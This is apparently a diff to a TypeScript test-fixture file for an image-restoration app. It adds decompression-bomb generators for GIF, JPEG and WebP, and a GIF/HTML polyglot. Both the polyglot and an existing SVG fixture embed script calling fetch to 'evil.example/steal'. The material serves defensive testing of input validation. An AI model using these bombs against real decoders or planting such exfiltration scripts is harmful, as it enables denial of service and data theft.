@@ -15,7 +15,8 @@ export interface HostileInput {
   bytes: Buffer;
   /** The recipe: 'fade' (fast, no model) or an upscale x2 'fast' run that exercises tiling. */
   recipe: 'fade' | 'upscale-fast-x2';
-  expect: { size: [number, number] } | { message: RegExp };
+  /** `like`: the result must look like this image upscaled (mean colour, pixels), not just have the size. */
+  expect: { size: [number, number]; like?: Rgba } | { message: RegExp };
 }
 
 const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
@@ -120,6 +121,72 @@ export function animatedGif(width: number, height: number): Buffer {
   ]);
 }
 
+/**
+ * A GIF whose logical screen is 10x10 but whose one frame is width x height: decoders
+ * grow the canvas to the frame, so a check that reads only the screen size misses it. (35 bytes.)
+ */
+export function gifFrameBomb(width: number, height: number): Buffer {
+  return Buffer.from([
+    ...Buffer.from('GIF89a', 'latin1'), 10, 0, 10, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, // screen, 2-colour table
+    0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0, // image descriptor
+    2, 2, 0x44, 0x01, 0, // LZW: clear, one pixel, end of information
+    0x3b,
+  ]);
+}
+
+/**
+ * A JPEG declaring width x height whose frame header (SOF) comes after `metadata` bytes of APP15
+ * segments: a check that reads only the first 256 kB never sees the size. The scan is a tiny
+ * image's, so a decoder that trusts the header fills the rest.
+ */
+export async function jpegLateSof(width: number, height: number, metadata = 300 * 1024): Promise<Buffer> {
+  const small = await sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 120, g: 90, b: 60 } } }).jpeg().toBuffer();
+  const segments: Buffer[] = [];
+  for (let left = metadata; left > 0; left -= 65533) {
+    const body = Math.min(65533, left);
+    const seg = Buffer.alloc(4 + body, 0x20);
+    seg.writeUInt16BE(0xffef, 0);
+    seg.writeUInt16BE(body + 2, 2);
+    segments.push(seg);
+  }
+  const out = Buffer.concat([small.subarray(0, 2), ...segments, small.subarray(2)]);
+  const sof = out.indexOf(Buffer.from([0xff, 0xc0]), 2 + metadata);
+  out.writeUInt16BE(height, sof + 5);
+  out.writeUInt16BE(width, sof + 7);
+  return out;
+}
+
+/**
+ * A lossless WebP (VP8L) of width x height black pixels in a few dozen bytes: every prefix code
+ * has one symbol, so a pixel costs no bits, and a decoder that trusts the header allocates it all.
+ */
+export function webpBomb(width: number, height: number): Buffer {
+  const bits: number[] = [];
+  const put = (value: number, n: number) => { for (let i = 0; i < n; i++) bits.push((value >> i) & 1); };
+  put(0x2f, 8); // signature
+  put(width - 1, 14);
+  put(height - 1, 14);
+  put(0, 1); // no alpha used
+  put(0, 3); // version
+  put(0, 1); // no transform
+  put(0, 1); // no colour cache
+  put(0, 1); // no meta prefix codes
+  // Green, red, blue, alpha, distance: simple codes of one symbol (alpha 255, the rest 0).
+  for (const symbol of [0, 0, 0, 255, 0]) {
+    put(1, 1); // simple code
+    put(0, 1); // one symbol
+    put(1, 1); // an 8-bit symbol
+    put(symbol, 8);
+  }
+  const data = Buffer.alloc(Math.ceil(bits.length / 8));
+  bits.forEach((bit, i) => { data[i >> 3]! |= bit << (i & 7); });
+  const chunk = Buffer.concat([Buffer.from('VP8L', 'latin1'), Buffer.alloc(4), data, Buffer.alloc(data.length & 1)]);
+  chunk.writeUInt32LE(data.length, 4);
+  const riff = Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.alloc(4), Buffer.from('WEBP', 'latin1'), chunk]);
+  riff.writeUInt32LE(riff.length - 8, 4);
+  return riff;
+}
+
 /** A 16-bit-per-channel RGB PNG. */
 export function png16(width: number, height: number): Buffer {
   const png = new PNG({ width, height, bitDepth: 16, colorType: 2, inputColorType: 2, inputHasAlpha: false });
@@ -147,12 +214,36 @@ export function gradient(width: number, height: number): Rgba {
   return { width, height, data };
 }
 
+/** A strip with a gentle ramp along its length around the mean (128, 100, 128): the issue's 1x512 case. */
+export function tintedStrip(width: number, height: number): Rgba {
+  const data = new Uint8Array(width * height * 4);
+  const n = Math.max(width, height);
+  for (let y = 0; y < height; y++)
+    for (let x = 0; x < width; x++) {
+      const t = (Math.max(x, y) / (n - 1) - 0.5) * 40; // -20..20
+      data.set([128 + t, 100 - t / 2, 128 + t / 2, 255], (y * width + x) * 4);
+    }
+  return { width, height, data };
+}
+
 export const svgWithScript = Buffer.from(`<?xml version="1.0"?>
 <svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="alert('svg-onload')">
   <script>alert('svg-script'); console.log('HEIRLOOM-SVG-SCRIPT-RAN'); fetch('https://evil.example/steal');</script>
   <rect width="40" height="30" fill="red"/>
 </svg>
 `);
+
+/**
+ * A polyglot: a valid GIF whose bytes after the trailer are an HTML page with a script. Typed as
+ * text/html (as a browser types a file named .html), its raw bytes open in a tab as a web page.
+ */
+export const gifHtmlPolyglot = Buffer.concat([
+  animatedGif(24, 16),
+  Buffer.from(`<html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); fetch('https://evil.example/steal', { method: 'POST', body: 'queue' });</script></body></html>`),
+]);
+
+/** A plain web page with a script. */
+export const htmlWithScript = Buffer.from(`<!doctype html><html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); alert('html-script');</script></body></html>\n`);
 
 /** A few bytes of a HEIC file: an ISO-BMFF 'ftyp' box with brand heic, then a truncated 'meta'. */
 export const heicStub = Buffer.concat([
@@ -176,14 +267,21 @@ export async function hostileCorpus(): Promise<HostileInput[]> {
     { id: 'text-named-png', name: 'notes.png', mimeType: 'image/png', bytes: Buffer.from('Grandma, 1962, at the lake.\nScan the rest next week.\n'), recipe: 'fade', expect: { message: /notes.png is not an image: it contains text\. Choose a photo \(JPEG, PNG/ } },
     { id: 'bomb-30000', name: 'bomb.png', mimeType: 'image/png', bytes: pngBomb(30000, 30000), recipe: 'fade', expect: { message: /bomb.png declares 30000x30000 pixels \(900 MP\); Heirloom handles up to 250 MP\. Reduce it first/ } },
     { id: 'bomb-60000', name: 'bomb-60k.png', mimeType: 'image/png', bytes: pngBomb(60000, 60000), recipe: 'fade', expect: { message: /declares 60000x60000 pixels \(3600 MP\); Heirloom handles up to 250 MP/ } },
+    { id: 'webp-bomb', name: 'big.webp', mimeType: 'image/webp', bytes: webpBomb(16383, 16383), recipe: 'fade', expect: { message: /big.webp declares 16383x16383 pixels \(268 MP\); Heirloom handles up to 250 MP/ } },
+    { id: 'gif-frame-bomb', name: 'frame.gif', mimeType: 'image/gif', bytes: gifFrameBomb(20000, 20000), recipe: 'fade', expect: { message: /frame.gif declares 20000x20000 pixels \(400 MP\); Heirloom handles up to 250 MP/ } },
+    { id: 'jpeg-late-sof', name: 'late.jpg', mimeType: 'image/jpeg', bytes: await jpegLateSof(20000, 20000), recipe: 'fade', expect: { message: /late.jpg declares 20000x20000 pixels \(400 MP\); Heirloom handles up to 250 MP/ } },
     { id: 'cmyk-jpeg', name: 'cmyk.jpg', mimeType: 'image/jpeg', bytes: cmyk, recipe: 'fade', expect: { size: [40, 30] } },
     { id: 'png-16-bit', name: 'deep.png', mimeType: 'image/png', bytes: png16(32, 20), recipe: 'fade', expect: { size: [32, 20] } },
     { id: 'png-grey-alpha', name: 'grey-alpha.png', mimeType: 'image/png', bytes: pngGreyAlpha(30, 20), recipe: 'fade', expect: { size: [30, 20] } },
     { id: 'animated-gif', name: 'animated.gif', mimeType: 'image/gif', bytes: animatedGif(24, 16), recipe: 'fade', expect: { size: [24, 16] } },
     { id: 'apng', name: 'animated.png', mimeType: 'image/png', bytes: apng(red, blue), recipe: 'fade', expect: { size: [24, 16] } },
     { id: 'svg-script', name: 'drawing.svg', mimeType: 'image/svg+xml', bytes: svgWithScript, recipe: 'fade', expect: { message: /drawing.svg is an SVG drawing, not a photo.*Export it as PNG or JPEG/ } },
+    { id: 'gif-html-polyglot', name: 'holiday.html', mimeType: 'text/html', bytes: gifHtmlPolyglot, recipe: 'fade', expect: { size: [24, 16] } },
+    { id: 'html-script', name: 'page.html', mimeType: 'text/html', bytes: htmlWithScript, recipe: 'fade', expect: { message: /page.html is not an image: it contains text/ } },
     { id: 'heic', name: 'IMG_0001.HEIC', mimeType: 'image/heic', bytes: heicStub, recipe: 'fade', expect: { message: /IMG_0001.HEIC is a HEIC photo, which this browser can't open\. Export it as JPEG/ } },
     { id: '1x1', name: 'dot.png', mimeType: 'image/png', bytes: encodePng(gradient(1, 1)), recipe: 'upscale-fast-x2', expect: { size: [2, 2] } },
-    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4] } },
+    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4], like: gradient(10000, 2) } },
+    { id: 'thin-1x512', name: 'strip.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(1, 512)), recipe: 'upscale-fast-x2', expect: { size: [2, 1024], like: tintedStrip(1, 512) } },
+    { id: 'thin-512x2', name: 'strip2.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(512, 2)), recipe: 'upscale-fast-x2', expect: { size: [1024, 4], like: tintedStrip(512, 2) } },
   ];
 }
